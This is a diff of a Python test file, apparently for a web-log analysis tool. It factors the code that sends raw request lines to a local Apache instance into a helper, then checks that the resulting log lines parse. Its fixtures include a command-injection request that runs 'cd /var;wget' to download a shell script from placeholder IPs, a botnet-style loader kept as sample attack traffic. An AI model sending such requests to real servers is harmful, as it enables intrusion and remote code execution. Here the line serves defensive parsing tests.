@@ -35,17 +35,22 @@ LOADER = [b"GET /dl?cd+/var;wget+http://%s:%d/x.sh HTTP/1.0" % (ip, port)
           for ip, port in ((b"198.51.100.1", 80), (b"203.0.113.200", 8080))]
 
 
+def _send_each(apache: Apache, request_lines: list[bytes], headers: bytes) -> list[str]:
+    """Each request line with ``headers`` on its own connection; Apache's log lines for them."""
+    for line in request_lines:
+        with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
+            s.sendall(line + b"\r\n" + headers + b"\r\n")
+            s.shutdown(socket.SHUT_WR)
+            deadline = time.monotonic() + 3
+            while time.monotonic() < deadline and s.recv(65536):
+                pass
+    return apache.lines(len(request_lines))
+
+
 def test_report_reads_apache_escaped_request_lines(tmp_path):
     sent = HOSTILE + MOZI + LOADER
     with Apache(FORMAT, protocol_options="Unsafe") as apache:
-        for line in sent:
-            with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
-                s.sendall(line + b"\r\nUser-Agent: x \"y\" \\z\r\n\r\n")
-                s.shutdown(socket.SHUT_WR)
-                deadline = time.monotonic() + 3
-                while time.monotonic() < deadline and s.recv(65536):
-                    pass
-        lines = apache.lines(len(sent))
+        lines = _send_each(apache, sent, b"User-Agent: x \"y\" \\z\r\n")
     assert len(lines) == len(sent)
     log = tmp_path / "apache.log"
     log.write_text("\n".join(lines) + "\n")
@@ -80,14 +85,7 @@ DEBIAN_FORMAT = ('%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" '
 
 def test_report_reads_apaches_own_directives(tmp_path):
     with Apache(DEBIAN_FORMAT) as apache:
-        for line in MOZI + LOADER:
-            with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
-                s.sendall(line + b"\r\nHost: sensor.example:8080\r\nUser-Agent: u\r\n\r\n")
-                s.shutdown(socket.SHUT_WR)
-                deadline = time.monotonic() + 3
-                while time.monotonic() < deadline and s.recv(65536):
-                    pass
-        lines = apache.lines(len(MOZI + LOADER))
+        lines = _send_each(apache, MOZI + LOADER, b"Host: sensor.example:8080\r\nUser-Agent: u\r\n")
     log = tmp_path / "apache.log"
     log.write_text("\n".join(lines) + "\n")
     parse = compile_format(DEBIAN_FORMAT).parse
